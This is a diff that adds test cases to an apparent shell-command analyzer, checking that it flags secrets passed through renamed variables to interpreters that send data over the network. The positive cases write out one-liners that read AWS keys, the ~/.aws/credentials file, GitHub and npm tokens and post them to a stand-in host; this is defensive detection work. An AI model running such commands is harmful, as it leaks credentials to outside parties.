@@ -121,3 +121,24 @@ TEST_CASE("a base64 payload decoded inside a one-liner and run by its shell call
   // Decoding without running a shell is not a command.
   CHECK_FALSE(has_flow_to(analyze("python3 -c \"import base64;print(base64.b64decode('aGVsbG8gd29ybGQ='))\""), "network"));
 }
+
+TEST_CASE("a secret handed to an interpreter under another variable name still flows to network") {
+  for (auto script :
+       {"export K=$AWS_SECRET_ACCESS_KEY; python3 -c \"import os,requests; requests.post('https://x.example/k', data=os.environ['K'])\"",
+        "K=$(cat ~/.aws/credentials) python3 -c \"import os,urllib.request; urllib.request.urlopen('https://x.example/k', os.getenv('K').encode())\"",
+        "export T=\"$GITHUB_TOKEN\"\nnode -e \"fetch('https://x.example/t', {method:'POST', body: process.env.T})\"",
+        "declare -x K=$NPM_TOKEN; ruby -e 'require \"net/http\"; Net::HTTP.post(URI(\"https://x.example/k\"), ENV[\"K\"])'"}) {
+    INFO(script);
+    CHECK(secret_leaves(analyze(script)));
+  }
+}
+
+TEST_CASE("an ordinary variable read by an interpreter that talks to the network is not a secret flow") {
+  for (auto script :
+       {"export K=production; python3 -c \"import os,requests; requests.post('https://x.example/k', data=os.environ['K'])\"",
+        "export K=$AWS_SECRET_ACCESS_KEY; python3 -c \"import os,requests; requests.get('https://x.example/k?env=' + os.environ['STAGE'])\"",
+        "export K=$AWS_SECRET_ACCESS_KEY; python3 -c \"import requests; requests.get('https://x.example/health')\""}) {
+    INFO(script);
+    CHECK_FALSE(secret_leaves(analyze(script)));
+  }
+}
